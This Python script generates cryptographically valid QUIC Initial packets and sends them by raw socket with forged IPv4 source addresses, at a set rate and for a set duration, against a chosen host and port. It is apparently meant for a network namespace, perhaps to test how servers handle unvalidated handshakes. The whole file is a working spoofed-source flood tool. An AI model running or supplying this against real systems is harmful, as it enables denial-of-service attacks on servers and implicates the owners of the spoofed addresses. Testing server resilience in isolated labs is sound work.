"""Forged QUIC Initials: whole datagrams with source addresses that belong to nobody.

Run in a namespace: `python initials.py INTERFACE SOURCE DESTINATION PORT SECONDS RATE`. It sends as
many as the machine can, at most `RATE` a second, and prints how many.

Each Initial is a real one, with keys of its own (RFC 9001 section 5.2), as a server that does not
ask for proof of the address must take it for the start of a handshake.
"""

from __future__ import annotations

import hashlib
import hmac
import os
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

_SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
"""RFC 9001 section 5.2."""
_SIZE = 1200
"""RFC 9000 section 14.1."""


def _expand(secret: bytes, label: str, length: int) -> bytes:
    """HKDF-Expand-Label (RFC 8446 section 7.1), one block."""
    name = b"tls13 " + label.encode()
    info = struct.pack("!HB", length, len(name)) + name + b"\0\x01"
    return hmac.digest(secret, info, hashlib.sha256)[:length]


def _variable(number: int) -> bytes:
    """Two bytes (RFC 9000 section 16)."""
    return struct.pack("!H", 0x4000 | number)


def initial() -> bytes:
    """Give a client's first datagram: a `CRYPTO` frame that starts a long ClientHello."""
    destination, source = os.urandom(8), os.urandom(8)
    secret = hmac.digest(_SALT, destination, hashlib.sha256)
    secret = _expand(secret, "client in", 32)
    key, iv, mask_key = (
        _expand(secret, label, length)
        for label, length in (("quic key", 16), ("quic iv", 12), ("quic hp", 16))
    )
    start = b"\xc3" + struct.pack("!I", 1) + b"\x08" + destination + b"\x08" + source + b"\0"
    rest = _SIZE - len(start) - 2
    header = start + _variable(rest) + bytes(4)
    hello = b"\x01\0\x07\xd0\x03\x03" + os.urandom(32)
    frames = b"\x06\0" + _variable(len(hello)) + hello
    plain = frames.ljust(rest - 4 - 16, b"\0")
    sealed = AESGCM(key).encrypt(iv, plain, header)
    # One block, as RFC 9001 section 5.4.3 has it.
    mask = Cipher(algorithms.AES(mask_key), modes.ECB()).encryptor().update(sealed[:16])  # noqa: S305
    first = bytes([header[0] ^ (mask[0] & 0x0F)])
    number = bytes(a ^ b for a, b in zip(header[-4:], mask[1:5], strict=True))
    return first + header[1:-4] + number + sealed


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


def packet(source: bytes, destination: bytes, port: int, payload: bytes) -> bytes:
    """Give an IPv4 and UDP packet; its UDP checksum is left out (RFC 768)."""
    udp = struct.pack("!HHHH", 4433, port, 8 + len(payload), 0)
    length = 20 + len(udp) + len(payload)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, 17, 0) + source + destination
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return header + udp + payload


def main(interface: str, source: str, destination: str, port: str, seconds: str, rate: str) -> None:
    """Send until the time is over."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    payloads = [initial() for _ in range(5000)]
    sys.stdout.write("starts\n")
    sys.stdout.flush()
    network, to = socket.inet_aton(source)[:2], socket.inet_aton(destination)
    began, sent = time.monotonic(), 0
    while (passed := time.monotonic() - began) < float(seconds):
        due = int(passed * float(rate)) - sent
        for _ in range(min(due, 1000)):
            forged = network + struct.pack("!H", sent % 60_000 + 1)
            raw.sendto(packet(forged, to, int(port), payloads[sent % 5000]), (destination, 0))
            sent += 1
        time.sleep(0.001)
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
